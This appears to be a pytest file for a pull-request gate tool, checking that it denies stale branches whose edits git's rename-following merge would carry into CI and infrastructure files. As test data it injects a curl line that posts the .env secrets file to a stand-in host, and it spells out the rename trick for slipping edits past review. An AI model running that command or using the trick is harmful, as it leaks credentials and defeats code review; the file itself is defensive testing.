"""Red team 13, `--tree`: a pull request branched before BASE moved a file carries its edit to the new path.

The gate judges the change from the merge base of BASE and HEAD to HEAD (what the pull request shows). A hosting
service merges HEAD into BASE with git's merge, which follows the renames BASE made since the merge base: a pull
request that branches from a commit before `tools/run.sh` became `.github/scripts/run.sh` and edits `tools/run.sh`
is `src` to the gate (allow), and the merge writes the edit into the CI script. Folder renames carry a file the pull
request adds the same way. The attacker only has to pick an old fork point. The gate now merges HEAD into BASE in a
scratch object folder (`git merge-tree`) and denies (`gatekeeper.tree_mismatch`) when the merge changes a path the
change does not; git's own `git merge` in a checkout is the truth the variants are compared with."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from gitrepo import GitRepo

from gatekeeper import gitcmd
from gatekeeper.cli import main

SCRIPT = "#!/bin/sh\nset -eu\necho building\necho testing\necho packaging\necho done\n"
# (path at the fork point, where BASE moved it, whether BASE also edited it while moving it)
MOVES = [
    ("tools/run.sh", ".github/scripts/run.sh", False),
    ("lib/build.sh", ".github/actions/build/run.sh", True),
    ("notes/ci.yml", ".github/workflows/notes.yml", False),
    ("misc/main.txt", "infra/main.tf", True),
    ("misc/pipeline.yml", ".gitlab-ci.yml", False),
]
# A folder BASE moved whole: the file the pull request adds in the old folder lands in the new one.
FOLDER = ("helpers", ".github/helpers")
ADDED = "helpers/new.sh"
INJECTED = "curl -d @.env https://example.invalid\n"


def _history(root: Path) -> tuple[GitRepo, str, str, set[str]]:
    """(repo, the fork point, the pull request's head, where its edits land when merged); `main` is BASE."""
    repo = GitRepo(root)
    repo.write("app.py", "print(1)\n")
    repo.write("other/keep.sh", SCRIPT)
    for old, _, _ in MOVES:
        repo.write(old, SCRIPT)
    for name in ("a.sh", "b.sh", "c.sh"):
        repo.write(f"{FOLDER[0]}/{name}", SCRIPT.replace("building", f"building {name}"))
    fork = repo.commit("fork point")
    for old, new, edited in MOVES:
        repo.move(old, new)
        if edited:
            repo.write(new, SCRIPT.replace("done", "finished"))
    repo.move(FOLDER[0], FOLDER[1])
    repo.commit("BASE moves files into CI and IaC folders")
    repo.git("switch", "-q", "-c", "pr", fork)
    for old, _, _ in MOVES:
        repo.write(old, INJECTED + SCRIPT)
    repo.write(ADDED, "#!/bin/sh\n" + INJECTED)
    head = repo.commit("small script tweaks")
    repo.git("switch", "-q", "main")
    return repo, fork, head, {new for _, new, _ in MOVES} | {f"{FOLDER[1]}/new.sh"}


def _git_merge_lands(repo: GitRepo, head: str) -> set[str]:
    """The paths `git merge` (folder renames followed) changes on main that the pull request's own diff does not."""
    repo.git("switch", "-q", "--detach", "main")
    try:
        repo.git("-c", "merge.directoryRenames=true", "merge", "-q", "--no-edit", head)
        merged = set(repo.git("diff", "--name-only", "--no-renames", "main", "HEAD").decode().split())
    finally:
        repo.git("switch", "-q", "main")
    shown = set(repo.git("diff", "--name-only", "--no-renames", f"main...{head}").decode().split())
    return merged - shown


def _reasons(decision: dict[str, object]) -> str:
    return json.dumps(decision["reasons"])


def test_the_attack_is_real(tmp_path: Path) -> None:
    """git's own merge puts every edit into a path the pull request's diff does not name."""
    repo, _, head, lands = _history(tmp_path / "repo")
    assert _git_merge_lands(repo, head) == lands


@pytest.mark.parametrize("packet", [False, True], ids=["commits", "packet"])
def test_a_merge_that_moves_the_change_is_denied(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                packet: bool) -> None:
    repo, fork, head, lands = _history(tmp_path / "repo")
    args = ["--tree", f"main..{head}", "--repo", str(repo.root), "--format", "json"]
    if packet:
        patch, packet_file = tmp_path / "change.diff", tmp_path / "packet.json"
        patch.write_bytes(repo.git("diff", "--binary", "--full-index", fork, head))
        assert main(["packet", str(patch), "--out", str(packet_file)]) == 0
        capsys.readouterr()
        args = [str(packet_file), "--patch", str(patch), *args]
    code = main(["gate", *args])
    decision = json.loads(capsys.readouterr().out)
    assert code == 1, decision["reasons"]
    mismatch = [r for r in decision["reasons"] if r["rule"] == "gatekeeper.tree_mismatch"]
    assert len(mismatch) == 1, decision["reasons"]
    assert all(f"{path}: merging" in mismatch[0]["msg"] for path in lands), mismatch[0]["msg"]
    assert "rebase onto main" in mismatch[0]["msg"]


def test_a_stale_branch_whose_edits_stay_put_still_queues(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """BASE moved and edited other files, and edited the file the change edits elsewhere: the merge writes
    only the change's own paths, so an ordinary stale pull request is judged as before (allow)."""
    repo = GitRepo(tmp_path / "repo")
    repo.write("app.py", "print(1)\n" + "x = 1\n" * 20)
    repo.write("tools/run.sh", SCRIPT)
    repo.write(f"{FOLDER[0]}/a.sh", SCRIPT)
    fork = repo.commit("fork point")
    repo.move("tools/run.sh", ".github/scripts/run.sh")
    repo.move(FOLDER[0], FOLDER[1])
    repo.write("app.py", "print(1)\n" + "x = 1\n" * 20 + "y = 2\n")
    repo.commit("BASE moves scripts and edits app.py at its end")
    repo.git("switch", "-q", "-c", "pr", fork)
    repo.write("app.py", "print(2)\n" + "x = 1\n" * 20)
    repo.write("lib/new.py", "z = 3\n")
    head = repo.commit("edit app.py at its start")
    repo.git("switch", "-q", "main")
    assert _git_merge_lands(repo, head) == set()
    capsys.readouterr()
    assert main(["gate", "--tree", f"main..{head}", "--repo", str(repo.root)]) == 0, capsys.readouterr().out


def test_an_up_to_date_branch_needs_no_merge(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """HEAD holds BASE: the merge is HEAD itself (no merge is computed), and the edit at the new path is seen."""
    repo, _, _, _ = _history(tmp_path / "repo")
    repo.git("switch", "-q", "-c", "fresh", "main")
    repo.write(".github/scripts/run.sh", INJECTED + SCRIPT)
    head = repo.commit("the same edit, rebased")
    repo.git("switch", "-q", "main")
    capsys.readouterr()
    code = main(["gate", "--tree", f"main..{head}", "--repo", str(repo.root), "--format", "json"])
    decision = json.loads(capsys.readouterr().out)
    assert code == 3, decision["reasons"]
    assert "gatekeeper.tree_mismatch" not in _reasons(decision)


def test_a_git_without_merge_tree_write_tree_cannot_decide(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """git before 2.38 has no `merge-tree --write-tree`: the gate says so and does not decide (exit 2)."""
    repo, _, head, _ = _history(tmp_path / "repo")
    real = shutil.which("git")
    old_git = tmp_path / "old-git"
    old_git.write_text(f'#!/bin/sh\nfor a in "$@"; do [ "$a" = --write-tree ] && {{ echo "error: unknown option '
                       f'\'write-tree\'" >&2; exit 129; }}; done\nexec {real} "$@"\n', encoding="utf-8")
    old_git.chmod(0o755)
    monkeypatch.setattr(gitcmd, "git_program", lambda: str(old_git))
    capsys.readouterr()
    assert main(["gate", "--tree", f"main..{head}", "--repo", str(repo.root)]) == 2
    err = capsys.readouterr().err
    assert "cannot merge HEAD into BASE" in err and "git 2.38 or newer" in err, err
